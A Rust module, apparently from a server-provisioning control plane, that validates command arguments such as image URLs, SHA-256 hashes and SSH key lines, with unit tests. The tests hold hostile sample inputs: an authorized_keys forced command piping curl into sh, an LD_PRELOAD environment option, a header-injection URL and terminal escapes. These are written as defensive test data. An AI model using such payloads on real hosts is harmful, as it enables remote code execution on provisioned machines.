//! [`check_args`]: a command's arguments against its typed contract, before it is queued. The
//! control plane refuses at `commands.create` what the agent would refuse when it runs the
//! command (`INVALID_ARGUMENT` there, a failed command here), so a bad argument never waits in a
//! queue or reaches a node.

use serde::de::DeserializeOwned;
use serde_json::Value;

use super::CommandName;
use super::args::CommandArgs;
use super::deploy::{
    Compression, ImageFormat, ImageWriteArgs, MAX_HINT_LEN, MAX_INSTANCE_ID_LEN, MAX_SSH_KEY_LEN,
    MAX_SSH_KEYS, MAX_URL_LEN, MAX_USER_DATA_BYTES,
};
use super::logs::CollectArgs;
use super::reboot::{MAX_DELAY_SECONDS, RebootArgs};
use super::rescue::{MAX_RESCUE_KEYS, RescueArgs};
use super::reset::{ResetArgs, ResetTarget};

/// Why a command's arguments break its contract.
#[derive(Debug, thiserror::Error)]
pub enum ArgsError {
    /// The arguments do not have the contract's shape (a missing or unknown key, a wrong type, a
    /// negative size); `path` names the key (`.` for the whole object).
    #[error("{command} args: {path}: {source}")]
    Shape {
        command: CommandName,
        path: String,
        source: serde_json::Error,
    },
    /// A value has the right type but is out of range.
    #[error("{command} args: {field}: {message}")]
    Range {
        command: CommandName,
        field: &'static str,
        message: String,
    },
}

fn shape<T: DeserializeOwned>(command: CommandName, args: &Value) -> Result<T, ArgsError> {
    serde_path_to_error::deserialize(args).map_err(|e| ArgsError::Shape {
        command,
        path: e.path().to_string(),
        source: e.into_inner(),
    })
}

fn range(command: CommandName, field: &'static str, message: impl Into<String>) -> ArgsError {
    ArgsError::Range {
        command,
        field,
        message: message.into(),
    }
}

/// Whether `since` is a duration back from now (`2h`) or an RFC 3339 time, as the agent reads it.
fn since_parses(s: &str) -> bool {
    humantime::parse_duration(s).is_ok() || chrono::DateTime::parse_from_rfc3339(s).is_ok()
}

/// True for a string of 1 to `max` bytes without control characters (no line break, NUL or
/// terminal escape can reach a file, a log line or an operator's terminal through it).
fn bounded_text(s: &str, max: usize) -> bool {
    !s.is_empty() && s.len() <= max && !s.chars().any(char::is_control)
}

/// Key types a config drive's `public-keys` may carry: what sshd accepts in `authorized_keys`
/// without an option, less DSA (refused by OpenSSH since 7.0) and certificates (which need the
/// `cert-authority` option).
pub const KEY_TYPES: [&str; 7] = [
    "ssh-ed25519",
    "ssh-rsa",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "sk-ssh-ed25519@openssh.com",
    "sk-ecdsa-sha2-nistp256@openssh.com",
];

/// Whether `line` is `<type> <base64> [comment]` with a type of [`KEY_TYPES`] whose bytes are
/// that key: nothing in front of the type, so no `authorized_keys` option (`command="…"`,
/// `from=`, `environment=`) can ride in (cloud-init writes `public-keys` into root's
/// `authorized_keys` as they are), and the key parsed as the rescue's keys are
/// ([`crate::spec::parse_public_key`]: an OpenSSH public key of an accepted algorithm and size,
/// its blob's type the line's), so bytes that only look like a key never reach a machine.
fn is_plain_key_line(line: &str) -> bool {
    let mut words = line.split_ascii_whitespace();
    let (Some(kind), Some(blob)) = (words.next(), words.next()) else {
        return false;
    };
    KEY_TYPES.contains(&kind)
        && blob
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
        && crate::spec::parse_public_key(line).is_ok()
}

/// `image.write`'s ranges: an http(s) URL, a SHA-256 of 64 hex digits, root-device hints and an
/// instance id of bounded printable text, a config drive with a hostname and bounded keys and
/// user data.
fn check_image_write(command: CommandName, a: &ImageWriteArgs) -> Result<(), ArgsError> {
    if let Some(h) = &a.root_device {
        for (field, v) in [
            ("rootDevice.serial", &h.serial),
            ("rootDevice.wwn", &h.wwn),
            ("rootDevice.name", &h.name),
        ] {
            if v.as_deref().is_some_and(|v| !bounded_text(v, MAX_HINT_LEN)) {
                return Err(range(
                    command,
                    field,
                    format!("must be 1 to {MAX_HINT_LEN} bytes without control characters"),
                ));
            }
        }
    }
    if a.instance_id
        .as_deref()
        .is_some_and(|v| !bounded_text(v, MAX_INSTANCE_ID_LEN))
    {
        return Err(range(
            command,
            "instanceId",
            format!("must be 1 to {MAX_INSTANCE_ID_LEN} bytes without control characters"),
        ));
    }
    let url = &a.image.url;
    // The URL is shown in events and conditions: no control character or space may ride in it.
    if !(url.starts_with("http://") || url.starts_with("https://"))
        || url.len() > MAX_URL_LEN
        || url.chars().any(|c| c.is_control() || c.is_whitespace())
    {
        return Err(range(
            command,
            "image.url",
            format!(
                "must be an http:// or https:// URL of at most {MAX_URL_LEN} bytes, without spaces or control characters"
            ),
        ));
    }
    // Credentials in the URL would be kept wherever the URL is shown (events, conditions,
    // command answers): refused, without repeating them (issue 30.4). The authority ends at the
    // first `/`, `?` or `#` (a `\` is no end: WHATWG parsers read it as `/`, so an `@` after it
    // is refused too, conservatively).
    let authority = url
        .split_once("://")
        .map(|(_, rest)| rest.split(['/', '?', '#']).next().unwrap_or_default())
        .unwrap_or_default();
    if authority.contains('@') {
        return Err(range(
            command,
            "image.url",
            "must carry no credentials (user:password@): they would be kept in events, conditions \
             and answers; serve the image from a URL that needs none (on the provisioning network)",
        ));
    }
    // The ramdisk refuses it after the boot (a qcow2 needs random access): refused here, before
    // a machine is booted for nothing.
    if a.image.format == ImageFormat::Qcow2 && a.image.compression != Compression::None {
        return Err(range(
            command,
            "image.compression",
            "a qcow2 image is served uncompressed (qcow2 compresses inside: qemu-img convert -c); \
             compression applies to raw images only",
        ));
    }
    let h = &a.image.sha256;
    if h.len() != 64
        || !h
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    {
        return Err(range(
            command,
            "image.sha256",
            "must be 64 lowercase hex digits",
        ));
    }
    if let Some(c) = &a.config_drive {
        let ok_host = !c.hostname.is_empty()
            && c.hostname.len() <= 253
            && c.hostname
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.');
        if !ok_host {
            return Err(range(
                command,
                "configDrive.hostname",
                "must be a host name (letters, digits, '-', '.'; at most 253)",
            ));
        }
        if c.ssh_keys.len() > MAX_SSH_KEYS
            || c.ssh_keys
                .iter()
                .any(|k| !bounded_text(k.trim(), MAX_SSH_KEY_LEN) || !is_plain_key_line(k.trim()))
        {
            return Err(range(
                command,
                "configDrive.sshKeys",
                format!(
                    "at most {MAX_SSH_KEYS} keys, one line each of at most {MAX_SSH_KEY_LEN} bytes: \
                     <type> <base64> [comment] (ssh-ed25519, ssh-rsa, ecdsa-sha2-*, sk-*), no \
                     options (command=, from=, ...) in front"
                ),
            ));
        }
        if c.user_data
            .as_ref()
            .is_some_and(|u| u.len() > MAX_USER_DATA_BYTES)
        {
            return Err(range(
                command,
                "configDrive.userData",
                format!("at most {MAX_USER_DATA_BYTES} bytes"),
            ));
        }
    }
    Ok(())
}

/// Checks `args` (without the control plane's own `force`) against the contract of `command`:
/// `logs.collect` ([`CollectArgs`]: `maxBytes` over 0, `since` a duration or an RFC 3339 time),
/// `gpu.reset` ([`ResetArgs`]: `gpus` is `"all"` or a non-empty list), `node.reboot`
/// ([`RebootArgs`]: `delaySeconds` at most [`MAX_DELAY_SECONDS`]), `diag.nvml` ([`DiagArgs`](super::diag::DiagArgs)),
/// `inventory.refresh` ([`InventoryRefreshArgs`](super::inventory::InventoryRefreshArgs)) and the site agent's `bmc.verify`
/// ([`VerifyArgs`](super::bmc::VerifyArgs)), `bmc.power` ([`PowerArgs`](super::bmc::PowerArgs)) and `bmc.setBootDevice` ([`BootDeviceArgs`](super::bmc::BootDeviceArgs)),
/// and the ramdisk's `disk.clean` ([`CleanArgs`](super::clean::CleanArgs)).
pub fn check_args(command: CommandName, args: &Value) -> Result<(), ArgsError> {
    parse(command, args).map(drop)
}

/// [`check_args`], keeping the typed arguments ([`CommandArgs::parse`]).
pub(super) fn parse(command: CommandName, args: &Value) -> Result<CommandArgs, ArgsError> {
    Ok(match command {
        CommandName::InventoryRefresh => CommandArgs::InventoryRefresh(shape(command, args)?),
        CommandName::DiagNvml => CommandArgs::DiagNvml(shape(command, args)?),
        CommandName::BmcVerify => CommandArgs::BmcVerify(shape(command, args)?),
        CommandName::BmcPower => CommandArgs::BmcPower(shape(command, args)?),
        CommandName::BmcSetBootDevice => CommandArgs::BmcSetBootDevice(shape(command, args)?),
        CommandName::DiskClean => CommandArgs::DiskClean(shape(command, args)?),
        CommandName::RescueStart => {
            let a: RescueArgs = shape(command, args)?;
            // The ramdisk writes them to root's authorized_keys after the same parse: a key it
            // would refuse (options such as `command="…"`, a line break, not a key) is refused
            // here, before a machine is booted for nothing.
            let bad = a.ssh_keys.is_empty()
                || a.ssh_keys.len() > MAX_RESCUE_KEYS
                || a.ssh_keys.iter().any(|k| {
                    k.len() > MAX_SSH_KEY_LEN || crate::spec::parse_public_key(k).is_err()
                });
            if bad {
                return Err(range(
                    command,
                    "sshKeys",
                    format!(
                        "1 to {MAX_RESCUE_KEYS} OpenSSH public keys (type, base64, comment), one line each"
                    ),
                ));
            }
            CommandArgs::RescueStart(a)
        }
        CommandName::ImageWrite => {
            let a: ImageWriteArgs = shape(command, args)?;
            check_image_write(command, &a)?;
            CommandArgs::ImageWrite(a)
        }
        CommandName::LogsCollect => {
            let a: CollectArgs = shape(command, args)?;
            if a.max_bytes == Some(0) {
                return Err(range(command, "maxBytes", "must be over 0"));
            }
            if let Some(s) = a.since.as_deref()
                && !since_parses(s)
            {
                return Err(range(
                    command,
                    "since",
                    "must be a duration back from now (2h) or an RFC 3339 time",
                ));
            }
            CommandArgs::LogsCollect(a)
        }
        CommandName::GpuReset => {
            let a: ResetArgs = shape(command, args)?;
            if a.gpus == ResetTarget::Gpus(Vec::new()) {
                return Err(range(
                    command,
                    "gpus",
                    "names no GPU: give \"all\" or at least one UUID or PCI bus id",
                ));
            }
            CommandArgs::GpuReset(a)
        }
        CommandName::NodeReboot => {
            let a: RebootArgs = shape(command, args)?;
            if a.delay_seconds > MAX_DELAY_SECONDS {
                return Err(range(
                    command,
                    "delaySeconds",
                    format!("{} is over {MAX_DELAY_SECONDS}", a.delay_seconds),
                ));
            }
            CommandArgs::NodeReboot(a)
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A real Ed25519 public key line.
    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW op@laptop";

    #[test]
    fn every_command_is_checked_against_its_contract() {
        let ok = [
            (CommandName::InventoryRefresh, json!({})),
            (CommandName::DiagNvml, json!({})),
            (
                CommandName::DiagNvml,
                json!({"expectedGpus": {"count": 8, "name": "H100"}}),
            ),
            (CommandName::LogsCollect, json!({})),
            (
                CommandName::LogsCollect,
                json!({"since": "2h", "maxBytes": 1024, "sources": ["kernel"]}),
            ),
            (
                CommandName::LogsCollect,
                json!({"since": "2025-01-02T03:04:05Z"}),
            ),
            (CommandName::GpuReset, json!({"gpus": "all"})),
            (CommandName::GpuReset, json!({"gpus": ["0000:1a:00.0"]})),
            (CommandName::NodeReboot, json!({})),
            (
                CommandName::NodeReboot,
                json!({"mode": "force", "delaySeconds": 3600}),
            ),
            (
                CommandName::BmcVerify,
                json!({"nodeId": "node_1", "leaseEpoch": 3}),
            ),
            (
                CommandName::BmcVerify,
                json!({"nodeId": "node_1", "leaseEpoch": 3, "candidate": true}),
            ),
            (
                CommandName::BmcPower,
                json!({"nodeId": "node_1", "leaseEpoch": 3, "action": "softOff"}),
            ),
            (
                CommandName::BmcSetBootDevice,
                json!({"nodeId": "node_1", "leaseEpoch": 3, "device": "pxe", "persistent": true}),
            ),
            (CommandName::DiskClean, json!({})),
            (CommandName::DiskClean, json!({"mode": "full"})),
            (CommandName::RescueStart, json!({"sshKeys": [KEY]})),
            (
                CommandName::ImageWrite,
                json!({"image": {"url": "http://10.0.2.2:1/i.raw", "sha256": "ab".repeat(32)},
                       "configDrive": {"hostname": "m1", "sshKeys": [KEY]}}),
            ),
        ];
        for (c, a) in ok {
            assert!(
                check_args(c, &a).is_ok(),
                "{c} {a}: {:?}",
                check_args(c, &a)
            );
        }
        let bad = [
            (
                CommandName::LogsCollect,
                json!({"maxBytes": -1}),
                "maxBytes",
            ),
            (CommandName::LogsCollect, json!({"maxBytes": 0}), "maxBytes"),
            (
                CommandName::LogsCollect,
                json!({"since": "yesterday-ish"}),
                "since",
            ),
            (
                CommandName::LogsCollect,
                json!({"sources": ["dmesg"]}),
                "dmesg",
            ),
            (CommandName::LogsCollect, json!({"bogus": 1}), "bogus"),
            (CommandName::GpuReset, json!({}), "gpus"),
            (CommandName::GpuReset, json!({"gpus": "some"}), "some"),
            (CommandName::GpuReset, json!({"gpus": []}), "gpus"),
            (
                CommandName::NodeReboot,
                json!({"delaySeconds": 3601}),
                "delaySeconds",
            ),
            (CommandName::NodeReboot, json!({"mode": "hard"}), "hard"),
            (CommandName::BmcVerify, json!({"nodeId": "n"}), "leaseEpoch"),
            (
                CommandName::BmcVerify,
                json!({"nodeId": "n", "leaseEpoch": 1, "password": "x"}),
                "password",
            ),
            (
                CommandName::BmcPower,
                json!({"nodeId": "n", "leaseEpoch": 1, "action": "GracefulShutdown"}),
                "GracefulShutdown",
            ),
            (
                CommandName::BmcPower,
                json!({"nodeId": "n", "leaseEpoch": -1, "action": "on"}),
                "-1",
            ),
            (
                CommandName::BmcSetBootDevice,
                json!({"nodeId": "n", "leaseEpoch": 1, "device": "cdrom"}),
                "cdrom",
            ),
            (
                CommandName::DiagNvml,
                json!({"expectedGpus": {"count": -2}}),
                "-2",
            ),
            (CommandName::DiskClean, json!({"mode": "secure"}), "secure"),
            (CommandName::RescueStart, json!({"sshKeys": []}), "sshKeys"),
            (
                CommandName::RescueStart,
                json!({"sshKeys": ["ssh-ed25519 AAAA\nforced-command"]}),
                "sshKeys",
            ),
            (
                CommandName::ImageWrite,
                json!({"image": {"url": "ftp://h/i", "sha256": "ab".repeat(32)}}),
                "image.url",
            ),
            (
                CommandName::ImageWrite,
                json!({"image": {"url": "http://h/i", "sha256": "AB".repeat(32)}}),
                "image.sha256",
            ),
            (
                CommandName::ImageWrite,
                json!({"image": {"url": "http://h/i", "sha256": "ab".repeat(32)},
                       "configDrive": {"hostname": "bad host"}}),
                "configDrive.hostname",
            ),
        ];
        for (c, a, what) in bad {
            let e = check_args(c, &a)
                .err()
                .map(|e| e.to_string())
                .unwrap_or_default();
            assert!(e.contains(what) && e.contains(c.as_str()), "{c} {a}: {e:?}");
        }
    }

    fn refused_field(c: CommandName, a: &Value) -> String {
        check_args(c, a)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default()
    }

    #[test]
    fn rescue_keys_are_parsed_as_the_ramdisk_parses_them() {
        assert!(check_args(CommandName::RescueStart, &json!({"sshKeys": [KEY]})).is_ok());
        let with_option = format!("command=\"/bin/sh -c 'curl x|sh'\" {KEY}");
        let long_comment = format!("{KEY} {}", "c".repeat(MAX_SSH_KEY_LEN));
        for bad in [
            // Options in front of the key: sshd would run the command for whoever logs in.
            with_option.as_str(),
            "no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW",
            // Not a key at all, but with a space (what the old check asked for).
            "ssh-ed25519 AAAAC3Nza op@laptop",
            "hello world",
            // A carriage return, a NUL.
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW a\rb",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW a\0",
            long_comment.as_str(),
        ] {
            let e = refused_field(CommandName::RescueStart, &json!({"sshKeys": [bad]}));
            assert!(e.contains("sshKeys"), "{bad:?} accepted: {e:?}");
        }
    }

    /// Issue 30.11: what the ramdisk would refuse after a boot, or what would give a deployed
    /// machine's root a forced command, is refused before anything is queued.
    #[test]
    fn image_write_refuses_what_the_ramdisk_refuses_and_key_options() {
        let with = |image: Value, keys: Value| json!({"image": image, "configDrive": {"hostname": "m1", "sshKeys": keys}});
        let img = |format: &str, compression: &str| json!({"url": "http://h/i", "sha256": "ab".repeat(32), "format": format, "compression": compression});
        for (format, compression, ok) in [
            ("raw", "none", true),
            ("raw", "gzip", true),
            ("raw", "zstd", true),
            ("qcow2", "none", true),
            ("qcow2", "gzip", false),
            ("qcow2", "zstd", false),
        ] {
            let a = with(img(format, compression), json!([KEY]));
            let e = refused_field(CommandName::ImageWrite, &a);
            assert_eq!(e.is_empty(), ok, "{format}+{compression}: {e:?}");
            if !ok {
                assert!(e.contains("image.compression"), "{e}");
            }
        }
        let plain = img("raw", "none");
        for bad in [
            format!("command=\"/bin/sh\" {KEY}"),
            format!("no-pty,from=\"10.0.0.0/8\" {KEY}"),
            format!("environment=\"LD_PRELOAD=/tmp/x.so\" {KEY}"),
            format!("restrict {KEY}"),
            "ssh-ed25519".to_owned(),
            "ssh-ed25519 not*base64 c".to_owned(),
            "ssh-dss AAAAB3NzaC1kc3M= old".to_owned(),
            "ssh-ed25519-cert-v01@openssh.com AAAA c".to_owned(),
            // The grammar of a key line around bytes that are no key: cloud-init would write
            // them into authorized_keys, where they log nobody in (and say nothing why).
            "ssh-ed25519 AAAA x".to_owned(),
            "ecdsa-sha2-nistp256 AAAAE2VjZHNh".to_owned(),
            "sk-ssh-ed25519@openssh.com AAAAGnNr op@key".to_owned(),
            "ssh-rsa AAAAB3NzaC1yc2E= a comment with spaces".to_owned(),
            // A real Ed25519 key's bytes under another type's name.
            KEY.replacen("ssh-ed25519", "ssh-rsa", 1),
        ] {
            let e = refused_field(CommandName::ImageWrite, &with(plain.clone(), json!([bad])));
            assert!(e.contains("configDrive.sshKeys"), "{bad:?} accepted: {e:?}");
            assert!(!e.contains("/bin/sh"), "the message echoes the key: {e}");
        }
        for good in [
            KEY,
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFoI/vRJxuXKIFpm08wZNESqDqg4OFGJz5u4IOqvbE7K",
            "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBBlJc8c0VkU2JudDVuO7PYUvXzwK0iiAvE0KKHs8bwPXU72NLhOmXaW+7AEwB2mK7D4Dx14zaspb9GrjzNMl+BU= a comment with spaces",
        ] {
            let e = refused_field(CommandName::ImageWrite, &with(plain.clone(), json!([good])));
            assert!(e.is_empty(), "{good:?} refused: {e}");
        }
    }

    /// Issue 30.4: credentials in the image URL would be kept in events, conditions and
    /// answers; refused, and the refusal does not repeat them. An `@` in the path is no userinfo.
    #[test]
    fn an_image_url_with_userinfo_is_refused_without_echoing_it() {
        for url in [
            "https://user:S3cr3t-pw@images.example/i.raw",
            "http://S3cr3t-pw@10.0.2.2:8080/i.raw",
            "http://user:S3cr3t-pw@h?x=1",
            "http://user:S3cr3t-pw@h#f",
            "http://h\\user:S3cr3t-pw@evil/i",
        ] {
            let a = json!({"image": {"url": url, "sha256": "ab".repeat(32)}});
            let e = check_args(CommandName::ImageWrite, &a)
                .err()
                .map(|e| e.to_string())
                .unwrap_or_default();
            assert!(
                e.contains("image.url") && e.contains("credentials"),
                "{url:?}: {e:?}"
            );
            assert!(
                !e.contains("S3cr3t-pw"),
                "the refusal echoes the password: {e}"
            );
        }
        for url in ["http://h/a@b/i.raw", "https://h:8443/i.raw?sig=a@b"] {
            let a = json!({"image": {"url": url, "sha256": "ab".repeat(32)}});
            assert!(check_args(CommandName::ImageWrite, &a).is_ok(), "{url:?}");
        }
    }

    #[test]
    fn image_write_strings_are_bounded_and_printable() {
        let base = |extra: Value| {
            let mut a = json!({"image": {"url": "http://h/i", "sha256": "ab".repeat(32)}});
            if let (Some(o), Some(e)) = (a.as_object_mut(), extra.as_object()) {
                o.extend(e.clone());
            }
            a
        };
        let ok = base(json!({
            "rootDevice": {"serial": "S1", "wwn": "naa.5000c500a1", "name": "/dev/disk/by-id/virtio-S1"},
            "instanceId": "node_1-boot_2",
            "configDrive": {"hostname": "m1", "sshKeys": [KEY, format!("{KEY}\n")]}
        }));
        assert!(
            check_args(CommandName::ImageWrite, &ok).is_ok(),
            "{:?}",
            check_args(CommandName::ImageWrite, &ok)
        );
        for url in [
            "http://h/i\u{1b}[2Jx",
            "http://h/i\r\nX-Injected: 1",
            "http://h/i j",
        ] {
            let a = json!({"image": {"url": url, "sha256": "ab".repeat(32)}});
            let e = refused_field(CommandName::ImageWrite, &a);
            assert!(e.contains("image.url"), "{url:?}: {e:?}");
        }
        let huge = "s".repeat(MAX_HINT_LEN + 1);
        let cases = [
            (json!({"rootDevice": {"serial": huge}}), "rootDevice.serial"),
            (json!({"rootDevice": {"serial": ""}}), "rootDevice.serial"),
            (
                json!({"rootDevice": {"wwn": "naa.\u{1b}[2J"}}),
                "rootDevice.wwn",
            ),
            (
                json!({"rootDevice": {"name": "vda\nsdb"}}),
                "rootDevice.name",
            ),
            (json!({"instanceId": "i\n- x"}), "instanceId"),
            (
                json!({"instanceId": "i".repeat(MAX_INSTANCE_ID_LEN + 1)}),
                "instanceId",
            ),
            (
                json!({"configDrive": {"hostname": "m1", "sshKeys": ["k".repeat(MAX_SSH_KEY_LEN + 1)]}}),
                "configDrive.sshKeys",
            ),
            (
                json!({"configDrive": {"hostname": "m1", "sshKeys": [format!("{KEY} a\rb")]}}),
                "configDrive.sshKeys",
            ),
            (
                json!({"configDrive": {"hostname": "m1", "sshKeys": [format!("{KEY}\u{0}")]}}),
                "configDrive.sshKeys",
            ),
        ];
        for (extra, field) in cases {
            let a = base(extra);
            let e = refused_field(CommandName::ImageWrite, &a);
            assert!(e.contains(field), "{a}: {e:?}");
            assert!(e.len() < 300, "the message must not echo the value: {e}");
        }
    }
}
